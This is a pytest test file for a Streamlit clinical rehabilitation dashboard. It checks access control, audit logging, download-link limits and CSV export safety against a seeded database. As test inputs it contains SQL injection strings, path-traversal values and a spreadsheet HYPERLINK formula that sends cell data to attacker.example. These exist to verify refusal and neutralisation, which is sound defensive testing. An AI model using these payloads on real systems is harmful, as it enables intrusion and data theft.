"""The Streamlit dashboard through Streamlit's own AppTest, on a seeded SQLite file.

Every page: signed out it shows no patient data; signed in, the numbers it shows (charts,
metrics, tables) are the numbers in the database, read here directly with SQLAlchemy or
through the query layer.
"""

from __future__ import annotations

import base64
import json
import time

import numpy as np
import pandas as pd
import pytest
from sqlalchemy import delete, func, select
from streamlit.testing.v1 import AppTest

from dashboard import downloads, queries, ui
from dashboard_support import N1_BREATH, N1_GAIT, N1_SAFE, N1_SESSIONS, PASSWORD, PATIENT_NAMES, seed_dashboard_clinic
from mindmove import auth
from mindmove.auth import SIGN_IN_REFUSED, authenticate
from core.errors import AccessDenied
from mindmove.store import open_store
from mindmove.store.models import (
    AuditEntry, CheckIn, CueEvent, LoginThrottle, Patient, ProfileVersion, Sample, Session, SessionMetric, User,
)

APP = "dashboard/app.py"
PAGES = ["pages/patients.py", "pages/mobility.py", "pages/gait.py", "pages/function.py", "pages/breath.py",
         "pages/checkins.py", "pages/session_detail.py", "pages/calibration.py", "pages/home_programme.py",
         "pages/programme.py", "pages/exports.py"]
SECRETS = [*PATIENT_NAMES, *PATIENT_NAMES.values(), "seated knee extension", "northcott"]
TIMEOUT_S = 30


@pytest.fixture(scope="module")
def clinic(tmp_path_factory):
    url = f"sqlite:///{tmp_path_factory.mktemp('dashboard') / 'clinic.db'}"
    ids = seed_dashboard_clinic(url)
    store = open_store(url)
    yield url, store, ids
    store.dispose()


@pytest.fixture
def db(clinic, monkeypatch):
    """The seeded store; the app under test reads the same file through MINDMOVE_DB_URL.

    Every AppTest browser is the client ``local`` (Streamlit gives no address), so the failed
    sign-ins of one test would lock the next: each test starts with no sign-in failures."""
    url, store, ids = clinic
    monkeypatch.setenv("MINDMOVE_DB_URL", url)
    with store.session() as s:
        s.execute(delete(LoginThrottle))
    yield store, ids
    with store.session() as s:
        s.execute(delete(LoginThrottle))


BROWSER = "e" * 43  # the mindmove_device cookie dashboard/server.py would give this browser


@pytest.fixture
def browser(monkeypatch):
    """AppTest has no cookies: the one seam where the browser is missing. The app is told this
    browser's device cookie, as Streamlit's st.context.cookies would tell it behind server.py."""
    monkeypatch.setattr(ui, "device_cookie", lambda: BROWSER)
    return BROWSER


def rendered_bytes(at: AppTest) -> bytes:
    """Everything the app sent to the browser (every element's protobuf), as one byte string."""
    out: list[bytes] = []

    def walk(node) -> None:
        proto = getattr(node, "proto", None)
        if proto is not None:
            out.append(proto.SerializeToString())
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    return b"\n".join(out)


def assert_no_patient_data(at: AppTest) -> None:
    blob = rendered_bytes(at).lower()
    for secret in SECRETS:
        assert secret.lower().encode() not in blob, f"{secret!r} was shown"


def sign_in(username: str, password: str = PASSWORD, *, page: str | None = None, params: dict | None = None) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=TIMEOUT_S)
    for k, v in (params or {}).items():
        at.query_params[k] = v
    at.run()
    at.text_input(key="sign_in_username").input(username)
    at.text_input(key="sign_in_password").input(password)
    at.button[0].click().run()
    if page:
        at.switch_page(page).run()
    assert not at.exception, at.exception
    return at


def audits(store, **where) -> list[AuditEntry]:
    with store.session() as s:
        stmt = select(AuditEntry).order_by(AuditEntry.id)
        for k, v in where.items():
            stmt = stmt.where(getattr(AuditEntry, k) == v)
        return list(s.scalars(stmt))


def chart(at: AppTest, index: int = 0) -> dict:
    return json.loads(at.get("plotly_chart")[index].proto.spec)


def values(trace_field) -> list:
    """A Plotly trace's x or y as a list (plotly encodes numeric arrays as base64 typed arrays)."""
    if isinstance(trace_field, dict) and "bdata" in trace_field:
        return list(np.frombuffer(base64.b64decode(trace_field["bdata"]), dtype=np.dtype(trace_field["dtype"])))
    return list(trace_field)


def trace(spec: dict, name: str) -> dict:
    matches = [t for t in spec["data"] if t.get("name") == name]
    assert matches, f"no trace {name!r} in {[t.get('name') for t in spec['data']]}"
    return matches[0]


def metrics(at: AppTest) -> dict[str, str]:
    return {m.label: m.value for m in at.metric}


# --- signed out ----------------------------------------------------------------------------

@pytest.mark.parametrize("page", [None, *PAGES])
def test_signed_out_no_page_shows_patient_data(db, page):
    store, _ = db
    before = len(audits(store))
    at = AppTest.from_file(APP, default_timeout=TIMEOUT_S)
    at.query_params["patient"] = "N1"  # even a patient named in the URL stays hidden
    at.run()
    if page:
        at.switch_page(page).run()
    assert not at.exception
    # the sign-in form, or (a page reached directly) only a request to sign in
    assert ([t.label for t in at.text_input] == ["Username", "Password"]
            or [i.value for i in at.info] == ["Please sign in to see the dashboard."])
    assert not (at.dataframe or at.metric or at.get("plotly_chart") or at.selectbox or at.get("download_button"))
    assert_no_patient_data(at)
    assert len(audits(store)) == before  # nothing about patients was even read


def test_sign_out_returns_to_the_form_and_is_audited(db):
    store, _ = db
    at = sign_in("thera")
    assert b"Ada Northcott" in rendered_bytes(at)
    at.button(key="sign_out").click().run()
    assert [t.label for t in at.text_input] == ["Username", "Password"]
    assert_no_patient_data(at)
    assert audits(store, username="thera", action="sign_out")


# --- signed in: figures match the database ------------------------------------------------

@pytest.mark.parametrize("username", ["thera", "clin", "boss"])
def test_every_page_renders_for_every_role(db, username):
    at = sign_in(username)
    for page in PAGES:
        at.switch_page(page).run()
        assert not at.exception, f"{page}: {at.exception}"
        assert not at.error, f"{page}: {[e.value for e in at.error]}"
    if username == "clin":  # the south team's patient, whose sessions differ in shape from N1's
        at.switch_page("pages/session_detail.py").run()
        assert at.selectbox(key="patient_select").value == "S1"
        assert len(at.selectbox(key="session_S1").options) == 2


def test_patients_page_lists_the_care_team_with_database_figures(db):
    store, _ = db
    at = sign_in("thera")
    shown = at.dataframe[0].value.set_index("patient_code")
    assert list(shown.index) == ["N1", "N2"]  # S1 is the south team's
    user = authenticate(store, "thera", PASSWORD)
    expected = queries.list_patients(store, user).set_index("patient_code")
    for code in ("N1", "N2"):
        assert shown.loc[code, "sessions_in_period"] == expected.loc[code, "sessions_in_period"]
        assert shown.loc[code, "days_with_data_in_period"] == expected.loc[code, "days_with_data_in_period"]
    with store.session() as s:  # and straight from the tables: N1's sessions in the last 30 days
        n1 = s.scalar(select(func.count(Session.id)).join(Patient).where(Patient.code == "N1"))
    assert shown.loc["N1", "sessions_in_period"] == n1 == len(N1_SESSIONS)
    assert "beyond the safe range" in shown.loc["N1", "flags"] and shown.loc["N2", "flags"] == ""
    assert b"S1" not in rendered_bytes(at) and b"Southgate" not in rendered_bytes(at)


def test_mobility_page_draws_the_recorded_angles_over_the_safe_band(db):
    store, _ = db
    at = sign_in("thera", page="pages/mobility.py")
    at.selectbox(key="mobility_motion").set_value("right_knee_flexion").run()
    with store.session() as s:
        rows = s.execute(select(SessionMetric.max_deg, SessionMetric.min_deg, SessionMetric.rom_deg,
                                SessionMetric.safe_max_deg, SessionMetric.time_in_range_pct)
                         .join(Session).join(Patient)
                         .where(Patient.code == "N1", SessionMetric.name == "right_knee_flexion_deg")
                         .order_by(Session.started_at)).all()
    spec = chart(at, 0)
    assert values(trace(spec, "Highest angle (deg)")["y"]) == [r[0] for r in rows] == [s[3] for s in N1_SESSIONS]
    assert values(trace(spec, "Lowest angle (deg)")["y"]) == [r[1] for r in rows]
    assert set(values(trace(spec, f"Safe range {N1_SAFE[0]:g} to {N1_SAFE[1]:g} deg")["y"])) == {N1_SAFE[1]}
    assert values(trace(spec, "Beyond safe range")["y"]) == [N1_SESSIONS[-1][3]]
    assert spec["layout"]["yaxis"]["title"]["text"] == "Angle (deg)"
    assert values(chart(at, 1)["data"][0]["y"]) == [r[2] for r in rows]
    assert values(chart(at, 2)["data"][0]["y"]) == [r[4] for r in rows]
    reps = values(chart(at, 3)["data"][0]["y"])
    assert reps == [5 + i % 3 for i in range(len(N1_SESSIONS))]
    m = metrics(at)
    assert m["Sessions with this motion"] == str(len(rows))
    assert m["Latest range of motion (deg)"] == f"{rows[-1][2]:.1f}"
    assert m["Latest safe range (deg)"] == f"{N1_SAFE[0]:.0f} to {N1_SAFE[1]:.0f}"
    entry = audits(store, action="view_mobility", patient_code="N1")[-1]
    assert entry.success and entry.username == "thera"


def test_gait_page_matches_results_and_shows_quality_flags(db):
    at = sign_in("thera", page="pages/gait.py")
    spec = chart(at)
    cadence = [t for t in spec["data"] if t["name"] == "Cadence (steps/min)"][0]
    assert values(cadence["y"]) == [g[1] for g in N1_GAIT]
    speed = [t for t in spec["data"] if t["name"] == "Gait speed (m/s)"][0]
    assert values(speed["y"]) == [g[2] for g in N1_GAIT]
    flagged = [t for t in spec["data"] if t["name"] == "Check quality"]
    assert flagged and values(flagged[0]["y"]) == [N1_GAIT[0][1]]
    table = at.dataframe[0].value
    assert list(table["Quality flags"]) == ["few strides", "none", "none"]
    assert list(table["Stride-time variability (CV %)"]) == [g[4] for g in N1_GAIT]


def test_breath_page_matches_results(db):
    at = sign_in("thera", page="pages/breath.py")
    spec = chart(at)
    assert values(trace(spec, "Resting rate (breaths/min)")["y"]) == [b[1] for b in N1_BREATH]
    assert values(trace(spec, "Practice rate (breaths/min)")["y"]) == [b[2] for b in N1_BREATH]
    assert values(trace(spec, "Pacer agreement (%)")["y"]) == [b[3] for b in N1_BREATH]
    assert values(trace(spec, "Exhale:inhale (ratio)")["y"]) == [b[4] for b in N1_BREATH]
    # the table shows rates to 0.1 and percentages to whole numbers (the values stay exact)
    assert shown_formats(at.dataframe[0]) == {
        "Resting rate (breaths/min)": "%.1f", "Practice rate (breaths/min)": "%.1f",
        "Pacer target (breaths/min)": "%.1f", "Pacer agreement (%)": "%.0f", "Exhale:inhale (ratio)": "%.2f"}
    assert list(at.dataframe[0].value["Practice rate (breaths/min)"]) == [b[2] for b in N1_BREATH]


def shown_formats(table) -> dict[str, str]:
    """The display format of each formatted column of a table element."""
    config = json.loads(table.proto.columns)
    return {col: c["type_config"]["format"] for col, c in config.items() if "format" in c.get("type_config", {})}


def test_every_table_shows_its_numbers_to_a_meaningful_precision(db):
    at = sign_in("thera", page="pages/gait.py")
    assert shown_formats(at.dataframe[0]) == {
        "Cadence (steps/min)": "%.1f", "Gait speed (m/s)": "%.2f", "Step-time symmetry (ratio)": "%.2f",
        "Stride-time variability (CV %)": "%.1f"}
    at.switch_page("pages/session_detail.py").run()
    formats = shown_formats(at.dataframe[0])
    assert formats["Time within range (%)"] == "%.0f" and formats["Range of motion (deg)"] == "%.1f"
    at.switch_page("pages/mobility.py").run()
    formats = shown_formats(at.dataframe[0])
    assert formats["time_in_range_pct"] == "%.0f" and formats["rom_deg"] == "%.1f"


def test_checkins_page_matches_database(db):
    store, _ = db
    at = sign_in("thera", page="pages/checkins.py")
    with store.session() as s:
        before = list(s.scalars(select(CheckIn.pain).join(Session).join(Patient)
                                .where(Patient.code == "N1", CheckIn.phase == "before").order_by(Session.started_at)))
    spec = chart(at)
    assert values(trace(spec, "Pain before (0-10)")["y"]) == before == [s[1] for s in N1_SESSIONS]
    assert values(trace(spec, "Pain after (0-10)")["y"]) == [s[2] for s in N1_SESSIONS]
    assert list(at.dataframe[0].value["Pain change (points)"]) == [s[2] - s[1] for s in N1_SESSIONS]


def test_session_detail_marks_the_cues_on_the_series(db):
    store, ids = db
    at = sign_in("thera", page="pages/session_detail.py")
    last = ids[f"N1_{len(N1_SESSIONS) - 1}"]
    assert at.selectbox(key="session_N1").value == last  # newest first
    with store.session() as s:
        cue_t = list(s.scalars(select(CueEvent.t_s).where(CueEvent.session_id == last).order_by(CueEvent.t_s)))
        n_samples = s.scalar(select(func.count(Sample.id)).where(Sample.session_id == last,
                                                                 Sample.channel == "right_knee_flexion_deg"))
    spec = chart(at)
    knee = trace(spec, "right knee flexion (deg)")
    assert len(values(knee["y"])) == n_samples
    assert values(trace(spec, "Cue given")["x"]) == cue_t
    lines = [sh for sh in spec["layout"]["shapes"] if sh.get("type") == "line"]
    assert sorted({sh["x0"] for sh in lines}) == cue_t
    assert metrics(at)["Cues given"] == str(len(cue_t))


def test_calibration_edit_uses_the_cli_validation_and_is_audited(db):
    store, _ = db
    at = sign_in("thera", page="pages/calibration.py")
    assert at.dataframe[0].value["Maximum (deg)"].tolist() == [N1_SAFE[1]]
    with store.session() as s:
        n_versions = s.scalar(select(func.count(ProfileVersion.id)))
    # beyond the physiological limit: refused with check_range's message, nothing stored
    assert at.selectbox(key="edit_motion").value == "right_knee_flexion"  # calibrated motions first
    at.number_input(key="edit_max_deg_right_knee_flexion").set_value(175.0)
    at.number_input(key="edit_min_deg_right_knee_flexion").set_value(100.0)
    at.text_input(key="edit_reason_right_knee_flexion").input("trying")
    at.button[-1].click().run()  # the form's submit button
    assert any("beyond" in w.value or "physiological" in w.value for w in at.warning), [w.value for w in at.warning]
    at.number_input(key="edit_min_deg_right_knee_flexion").set_value(50.0)
    at.number_input(key="edit_max_deg_right_knee_flexion").set_value(40.0)
    at.text_input(key="edit_reason_right_knee_flexion").input("trying")
    at.button[-1].click().run()
    assert any("minimum to be below the maximum" in w.value for w in at.warning)
    refused = audits(store, action="edit_calibration", success=False)
    assert refused and "minimum to be below the maximum" in refused[-1].detail
    # a valid change with SQL-like text as the reason: stored as plain text, a new version
    reason = "'; DROP TABLE profile_versions; --"
    at.number_input(key="edit_min_deg_right_knee_flexion").set_value(0.0)
    at.number_input(key="edit_max_deg_right_knee_flexion").set_value(85.0)
    at.text_input(key="edit_reason_right_knee_flexion").input(reason)
    at.button[-1].click().run()
    assert not at.exception
    with store.session() as s:
        newest = s.scalars(select(ProfileVersion).order_by(ProfileVersion.id.desc())).first()
        assert s.scalar(select(func.count(ProfileVersion.id))) == n_versions + 1
    assert newest.reason == reason and newest.data["ranges"]["right_knee_flexion"]["max_deg"] == 85.0
    assert newest.created_by == "thera"
    assert audits(store, action="edit_calibration", success=True)[-1].patient_code == "N1"
    assert at.dataframe[0].value["Maximum (deg)"].tolist() == [85.0]


def test_calibration_is_for_therapists(db):
    store, _ = db
    for name in ("clin", "boss"):  # not in their navigation; reached anyway, the page refuses them
        at = sign_in(name, page="pages/calibration.py")
        assert any("therapist" in w.value for w in at.warning), [w.value for w in at.warning]
        assert not at.number_input and not at.get("form")
    at2 = AppTest.from_file("dashboard/pages/calibration.py", default_timeout=TIMEOUT_S)  # the page run directly
    at2.session_state["signed_in_user"] = authenticate(store, "clin", PASSWORD)
    at2.run()
    assert any("therapist" in w.value for w in at2.warning) and not at2.number_input
    assert audits(store, action="view_calibration_page", username="clin")[-1].success is False


def test_programme_page_for_admin_matches_the_query_layer(db):
    store, _ = db
    at = sign_in("boss", page="pages/programme.py")
    boss = authenticate(store, "boss", PASSWORD)
    p = queries.compute_programme_evaluation(store, boss)
    m = metrics(at)
    assert m["Patients"] == str(p.patients_total) == "3"
    assert m[f"Active (last {queries.ACTIVE_DAYS} d)"] == str(p.active_patients) == "2"
    assert m["Sessions"] == str(p.sessions_total) == str(len(N1_SESSIONS) + 2)
    first3 = np.mean([s[1] for s in N1_SESSIONS[:3]])
    last3 = np.mean([s[1] for s in N1_SESSIONS[-3:]])
    assert m["Pain change (points)"] == f"{last3 - first3:.2f}"
    spec = chart(at)
    assert sum(values(trace(spec, "Sessions (count)")["y"])) == p.sessions_total


def test_programme_refused_for_a_therapist(db):
    store, _ = db
    at = AppTest.from_file("dashboard/pages/programme.py", default_timeout=TIMEOUT_S)
    at.session_state["signed_in_user"] = authenticate(store, "thera", PASSWORD)
    at.run()
    assert any("admin" in w.value for w in at.warning) and not at.metric
    assert audits(store, action="view_programme", username="thera")[-1].success is False


def test_exports_offer_every_visible_table(db, browser):
    store, _ = db
    at = sign_in("thera", page="pages/exports.py")
    assert not at.get("link_button") and not at.get("download_button")  # nothing is read before the user asks
    at.button(key="prepare_patients").click().run()
    at.button(key="prepare_tables").click().run()
    labels = [b.proto.label for b in at.get("link_button")]
    assert "Patient list (CSV, 2 rows)" in labels
    assert f"Sessions (CSV, {len(N1_SESSIONS)} rows)" in labels
    assert f"Check-ins (CSV, {len(N1_SESSIONS)} rows)" in labels
    assert f"Gait (CSV, {len(N1_GAIT)} rows)" in labels
    assert not any("Audit" in label for label in labels)  # admin only
    assert all(b.proto.url.startswith(downloads.URL_PREFIX) for b in at.get("link_button"))
    assert not at.get("download_button")  # never Streamlit's /media/ URLs
    at.button(key="prepare_report").click().run()
    assert not at.exception
    assert "Download the PDF progress report" in [b.proto.label for b in at.get("link_button")]
    assert audits(store, action="prepare_report", patient_code="N1")[-1].success
    boss = sign_in("boss", page="pages/exports.py")
    boss.button(key="prepare_programme").click().run()
    assert any(b.proto.label.startswith("Audit log") for b in boss.get("link_button"))


# --- refusals -------------------------------------------------------------------------------

SQL_LIKE = ["' OR '1'='1", "N1'; DROP TABLE patients; --", "1 UNION SELECT password_hash FROM users", "%", "S1\" --"]


def test_wrong_password_and_unknown_user_refused_alike_and_audited(db):
    store, _ = db
    for username, password, reason in (("thera", "not the password", "wrong password"),
                                       ("nobody", PASSWORD, "unknown user")):
        at = AppTest.from_file(APP, default_timeout=TIMEOUT_S).run()
        at.text_input(key="sign_in_username").input(username)
        at.text_input(key="sign_in_password").input(password)
        at.button[0].click().run()
        assert [e.value for e in at.error] == [SIGN_IN_REFUSED]
        assert "signed_in_user" not in at.session_state
        assert_no_patient_data(at)
        last = audits(store, action="sign_in_failed", username=username)[-1]
        assert last.success is False and last.detail == reason
    sign_in("thera")  # a success clears thera's failure count for the other tests


@pytest.mark.parametrize("text", SQL_LIKE)
def test_sql_like_sign_in_is_refused_and_audited(db, text):
    store, _ = db
    at = AppTest.from_file(APP, default_timeout=TIMEOUT_S).run()
    at.text_input(key="sign_in_username").input(text)
    at.text_input(key="sign_in_password").input(text)
    at.button[0].click().run()
    assert [e.value for e in at.error] == [SIGN_IN_REFUSED]
    assert_no_patient_data(at)
    assert audits(store, action="sign_in_failed")[-1].username == text.strip().lower()
    with store.session() as s:
        assert s.scalar(select(func.count(Patient.id))) == 3  # the table is still there


def test_sql_like_search_finds_nothing_and_is_audited(db):
    store, _ = db
    at = sign_in("thera")
    for text in SQL_LIKE:
        at.text_input(key="patient_search").input(text).run()
        assert not at.dataframe, f"search {text!r} listed patients"
        assert any("No patients match" in i.value for i in at.info)
        assert audits(store, action="view_patient_list", username="thera")[-1].detail == "patients=0 search"
    at.text_input(key="patient_search").input("norris").run()
    assert list(at.dataframe[0].value["patient_code"]) == ["N2"]


@pytest.mark.parametrize("page", ["pages/mobility.py", "pages/gait.py", "pages/breath.py", "pages/checkins.py",
                                  "pages/session_detail.py", "pages/calibration.py", "pages/exports.py"])
@pytest.mark.parametrize("requested", ["S1", "N1' OR '1'='1"])
def test_patient_outside_the_care_team_by_url_is_refused_and_audited(db, page, requested):
    store, _ = db
    at = sign_in("thera")
    at.query_params["patient"] = requested
    at.switch_page(page).run()
    assert not at.exception
    assert any("not in your care team" in w.value for w in at.warning)
    assert not at.get("plotly_chart") and not at.metric
    blob = rendered_bytes(at)
    assert b"Southgate" not in blob and b"left shoulder" not in blob and b"left_shoulder" not in blob
    entry = audits(store, action="open_patient_url", username="thera")[-1]
    assert entry.success is False and entry.patient_code == requested


def test_other_teams_session_by_url_is_refused_and_audited(db):
    store, ids = db
    for requested in (str(ids["S1_0"]), "1 OR 1=1"):
        at = sign_in("thera", page="pages/session_detail.py", params={"session": requested})
        assert any("not one of your care team's" in w.value for w in at.warning)
        assert not at.get("plotly_chart")
        entry = audits(store, action="view_session", username="thera")[-1]
        assert entry.success is False and f"session={requested}" in entry.detail


def test_own_patient_by_url_is_opened(db):
    at = sign_in("thera", page="pages/checkins.py", params={"patient": "N2"})
    assert [t.value for t in at.title] == ["Check-ins"]
    assert at.selectbox(key="patient_select").value == "N2"
    assert any("No check-ins recorded for N2" in i.value for i in at.info)
    assert not at.get("plotly_chart")


# --- re-checked on every rerun, idle sign-out, per-client limit, calm failures ---------------

def link(at: AppTest, key: str) -> str:
    """The token of the download link ``key`` on the page."""
    button = next(b for b in at.get("link_button") if b.proto.id.endswith(f"download_{key}"))
    return button.proto.url.removeprefix(downloads.URL_PREFIX)


def test_exports_read_only_when_asked_and_audit_each_download(db, browser):
    store, _ = db
    at = sign_in("thera", page="pages/exports.py")
    at.button(key="prepare_tables").click().run()
    views = len([a for a in audits(store, username="thera") if a.action.startswith("view_")])
    token = link(at, "checkins")
    got = downloads.fetch_download(token, device_id=browser, client="test")
    assert got.data.decode().splitlines()[0].startswith("session_id,started_at,pain_before")
    entry = audits(store, action="export_csv", username="thera")[-1]
    assert entry.success and entry.patient_code == "N1"
    assert entry.detail == f"downloaded N1_checkins.csv; table=checkins rows={len(N1_SESSIONS)}"
    at.run()  # a rerun, as any click makes: nothing is read (or audited as viewed) again
    assert len([a for a in audits(store, username="thera") if a.action.startswith("view_")]) == views
    before = len(audits(store, action="view_patient_list", username="thera"))
    at.switch_page("pages/gait.py").run()  # the patient chooser is not a view of the patient list
    assert len(audits(store, action="view_patient_list", username="thera")) == before
    assert audits(store, action="view_gait", username="thera")[-1].patient_code == "N1"


def test_a_download_link_works_once_in_its_own_browser_until_sign_out(db, browser):
    store, _ = db
    at = sign_in("thera", page="pages/exports.py")
    at.button(key="prepare_tables").click().run()
    sessions, gait = link(at, "sessions"), link(at, "gait")
    for device in ("", "c" * 43):  # no cookie, another browser's: refused, and the link still works after
        with pytest.raises(downloads.DownloadRefused) as refused:
            downloads.fetch_download(sessions, device_id=device, client="203.0.113.5")
        assert refused.value.status == 403
    entry = audits(store, action="export_csv", username="thera")[-1]
    assert not entry.success and entry.client == "203.0.113.5"
    assert entry.detail.startswith("download refused: not the browser that prepared it")
    assert downloads.fetch_download(sessions, device_id=browser, client="test").file_name == "N1_sessions.csv"
    with pytest.raises(downloads.DownloadRefused) as again:  # once only
        downloads.fetch_download(sessions, device_id=browser, client="test")
    assert again.value.status == 410
    assert audits(store, action="export_csv", username="thera")[-1].detail == "download refused: link already used"
    at.switch_page("app.py").run()
    at.button(key="sign_out").click().run()
    with pytest.raises(downloads.DownloadRefused) as signed_out:
        downloads.fetch_download(gait, device_id=browser, client="test")
    assert signed_out.value.status == 410 and "sign-out" in str(signed_out.value)


def test_a_download_link_lasts_two_minutes_on_the_registers_clock():
    clock = [1000.0]
    grants = downloads.DownloadGrants(clock=lambda: clock[0])
    who = auth.SignedInUser(id=1, username="thera", role="therapist", device=auth.hash_device("d" * 43))
    token = grants.issue(who, b"a,b\n", file_name="x.csv", mime="text/csv", action="export_csv")
    clock[0] += downloads.LINK_TTL_S - 1
    assert grants.remaining_s(token) == pytest.approx(1.0)
    clock[0] += 2
    with pytest.raises(downloads.DownloadRefused, match="expired") as late:
        grants.redeem(token, device_id="d" * 43)
    assert late.value.status == 410 and grants.who(token) == "thera"


def attempt(username: str, password: str) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=TIMEOUT_S).run()
    at.text_input(key="sign_in_username").input(username)
    at.text_input(key="sign_in_password").input(password)
    at.button[0].click().run()
    return at


def test_five_wrong_passwords_for_one_user_do_not_stop_the_others(db):
    """Every AppTest browser is the client ``local`` (no address) with no device cookie:
    the case of the issue, where one user's mistakes paused sign-in for the whole clinic."""
    store, _ = db
    for _ in range(auth.MAX_FAILURES):
        assert [e.value for e in attempt("thera", "not the password").error] == [SIGN_IN_REFUSED]
    assert any("paused" in e.value for e in attempt("thera", PASSWORD).error)
    for username in ("boss", "clin"):
        at = attempt(username, PASSWORD)
        assert at.session_state["signed_in_user"].username == username, [e.value for e in at.error]
    lock = audits(store, action="sign_in_lock", username="thera")[-1]
    assert lock.client == ui.LOCAL_CLIENT and lock.detail.startswith("key=user:thera ")


def test_browsers_without_an_address_share_one_ceiling(db):
    store, _ = db
    attempt("guess0", "password123")
    assert audits(store, action="sign_in_failed", username="guess0")[-1].client == ui.LOCAL_CLIENT
    for i in range(1, auth.MAX_CLIENT_FAILURES + 2):  # different usernames: only the address can lock
        with pytest.raises(AccessDenied):
            auth.authenticate(store, f"guess{i}", "password123", client=ui.LOCAL_CLIENT)
    at = attempt("thera", PASSWORD)
    assert "signed_in_user" not in at.session_state
    assert any("paused" in e.value for e in at.error), [e.value for e in at.error]
    assert audits(store, action="sign_in_locked", username="thera")[-1].client == ui.LOCAL_CLIENT
    with store.session() as s:
        assert s.get(LoginThrottle, f"client:{ui.LOCAL_CLIENT}").failures == auth.MAX_CLIENT_FAILURES


def _set_user(store, username: str, **values) -> None:
    with store.session() as s:
        row = s.scalar(select(User).where(User.username == username))
        for k, v in values.items():
            setattr(row, k, v)


def test_a_deactivated_user_is_signed_out_at_the_next_click(db):
    store, _ = db
    at = sign_in("thera", page="pages/mobility.py")
    assert at.get("plotly_chart")
    _set_user(store, "thera", active=False)
    try:
        at.run()
        assert [i.value for i in at.info] == [auth.ACCOUNT_CHANGED]  # on the page it was on
        assert not (at.get("plotly_chart") or at.metric or at.dataframe or at.selectbox)
        assert "signed_in_user" not in at.session_state
        assert_no_patient_data(at)
        assert audits(store, username="thera")[-1].action == "sign_out_inactive"
    finally:
        _set_user(store, "thera", active=True)


def test_a_demoted_admin_loses_the_admin_pages(db):
    store, _ = db
    at = sign_in("boss", page="pages/programme.py")
    assert metrics(at)["Patients"] == "3"
    stale = at.session_state["signed_in_user"]
    _set_user(store, "boss", role="clinician")
    try:
        at.switch_page("pages/programme.py").run()
        assert not at.exception and "Patients" not in metrics(at)
        assert any("admin" in w.value for w in at.warning), [w.value for w in at.warning]  # and says why
        assert at.session_state["signed_in_user"].role == "clinician"
        assert audits(store, username="boss", action="role_changed")
        page = AppTest.from_file("dashboard/pages/programme.py", default_timeout=TIMEOUT_S)  # the page run directly
        page.session_state["signed_in_user"] = stale
        page.run()
        assert not page.metric and any("admin" in w.value for w in page.warning)
        with pytest.raises(AccessDenied):
            queries.compute_programme_evaluation(store, stale)
        with pytest.raises(AccessDenied):
            queries.load_audit_log(store, stale)
    finally:
        _set_user(store, "boss", role="admin")


def test_idle_sign_in_ends_after_the_timeout(db):
    store, _ = db
    at = sign_in("thera")
    at.session_state[ui.ACTIVE_AT_KEY] = time.time() - ui.IDLE_TIMEOUT_S + 60
    at.run()
    assert at.dataframe  # 29 minutes idle: still signed in
    at.session_state[ui.ACTIVE_AT_KEY] = time.time() - ui.IDLE_TIMEOUT_S - 1
    at.run()
    assert [t.label for t in at.text_input] == ["Username", "Password"]  # the sign-in form, with why
    assert [i.value for i in at.info] == [ui.IDLE_NOTICE]
    assert_no_patient_data(at)
    assert audits(store, username="thera")[-1].action == "sign_out_idle"


def test_a_store_failure_is_a_calm_message_not_a_traceback(tmp_path, monkeypatch):
    url = f"sqlite:///{tmp_path / 'broken.db'}"
    seed_dashboard_clinic(url)
    monkeypatch.setenv("MINDMOVE_DB_URL", url)
    at = sign_in("thera")
    store = open_store(url, create=False)
    try:
        with store.engine.begin() as c:  # the gait table goes missing under the running dashboard
            c.exec_driver_sql("ALTER TABLE gait_results RENAME TO gait_results_lost")
        at.switch_page("pages/gait.py").run()
    finally:
        store.dispose()
    assert not at.exception
    assert [w.value for w in at.warning] == [ui.COULD_NOT_LOAD]
    blob = rendered_bytes(at)
    assert b"Traceback" not in blob and b"gait_results" not in blob and b"OperationalError" not in blob


def test_the_browser_is_never_sent_error_details():
    from mindmove.commands.dashboard import streamlit_command

    cmd = streamlit_command(port=8611)
    assert cmd[cmd.index("--client.showErrorDetails") + 1] == "none"


# --- issue 15: URL parameters checked before any query; CSV cells cannot be formulas ---------

@pytest.mark.parametrize("requested", ["99999999999999999999", "-1", "0", "1e3", "２", "12" * 40])
def test_a_session_id_out_of_range_or_type_is_refused_before_any_query(db, requested):
    store, _ = db
    at = sign_in("thera")
    views = len(audits(store, username="thera"))
    at.query_params["session"] = requested
    at.switch_page("pages/session_detail.py").run()
    assert not at.exception and not at.get("plotly_chart") and not at.selectbox
    assert any("not one of your care team's" in w.value for w in at.warning)
    new = audits(store, username="thera")[views:]
    assert [(a.action, a.success) for a in new] == [("view_session", False)]  # the refusal, and nothing read
    assert "refused: not a session id" in new[0].detail


@pytest.mark.parametrize("requested", ["x" * 300, "N1\x00", "../N1", "N 1"])
def test_a_patient_param_that_is_not_a_code_is_refused_before_any_query(db, requested):
    store, _ = db
    at = sign_in("thera")
    views = len(audits(store, username="thera"))
    at.query_params["patient"] = requested
    at.switch_page("pages/mobility.py").run()
    assert not at.exception and not at.get("plotly_chart") and not at.selectbox
    assert any("not in your care team" in w.value for w in at.warning)
    new = audits(store, username="thera")[views:]
    assert [(a.action, a.success, a.detail) for a in new] == [("open_patient_url", False, "refused: not a patient code")]


def test_a_formula_typed_at_sign_in_reaches_the_audit_csv_as_text(db, browser):
    store, _ = db
    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
    for text in (formula, "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB"):
        attempt(text, "whatever password")
    boss = sign_in("boss", page="pages/exports.py")
    boss.button(key="prepare_programme").click().run()
    got = downloads.fetch_download(link(boss, "audit_log"), device_id=browser, client="test")
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(got.data.decode())))
    usernames = {r["username"] for r in rows if r["action"] == "sign_in_failed"}
    assert "'" + formula.lower() in usernames  # shown as text by any spreadsheet
    assert {"'+1+2", "'-2+3", "'@sum(a1:a9)"} <= usernames
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not any(value.startswith(starts) for r in rows for value in r.values())


def test_numbers_stay_numbers_in_a_csv():
    from dashboard.report import render_csv

    table = pd.DataFrame({"pain_change": [-2.0, 1.5], "note": ["-3.5", "=1+1"], "n": [-4, 2]})
    assert render_csv(table).decode().splitlines() == ["pain_change,note,n", "-2.0,-3.5,-4", "1.5,'=1+1,2"]
